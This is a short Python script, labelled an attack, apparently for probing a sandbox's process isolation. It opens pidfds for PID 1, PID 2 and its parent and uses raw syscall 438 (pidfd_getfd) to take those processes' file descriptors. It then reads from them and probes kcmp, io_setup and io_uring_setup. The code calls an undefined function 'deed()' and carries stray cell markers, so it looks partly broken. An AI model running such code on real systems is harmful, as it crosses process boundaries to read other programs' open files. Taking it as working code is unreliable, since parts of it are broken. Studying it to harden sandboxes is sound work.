# Takes the descriptors of other processes (pidfd_getfd), finds out which they share (kcmp), and has
# the kernel read for it without a call to read (io_setup, io_uring_setup), to see what it can get.
# %% from attacks/parts/stand_ins.py
# %% relu
import ctypes
import os
import platform

call = ctypes.CDLL(None, use_errno=True).syscall
KCMP, IO_SETUP = {"x86_64": (312, 206), "aarch64": (272, 0)}[platform.machine()]


def said(result):
    return result if result != -1 else os.strerror(ctypes.get_errno())


def attack():
    found = []
    for number in sorted({1, 2, os.getppid()} - {0, os.getpid()}):
        try:
            process = os.pidfd_open(number)
        except OSError as error:
            found.append(f"{number}: {error}")
            continue
        for fd in range(40):
            taken = call(438, process, fd, 0)
            if taken == -1:
                found.append(f"{number}: {fd} {said(taken)}")
                continue
            found.append(f"{number}: {fd} is {os.readlink(f'/proc/self/fd/{taken}')}")
            try:
                os.set_blocking(taken, False)
                found.append(os.read(taken, 1000))
            except OSError as error:
                found.append(error)
        found += [said(call(KCMP, os.getpid(), number, kind, 0, 0)) for kind in range(8)]
    context = ctypes.c_ulong()
    found.append(f"io_setup: {said(call(IO_SETUP, 8, ctypes.byref(context)))}")
    found.append(f"io_uring_setup: {said(call(425, 8, ctypes.create_string_buffer(120)))}")
    deed()
    return "\n".join(map(str, found))


print(attack()[:4000])
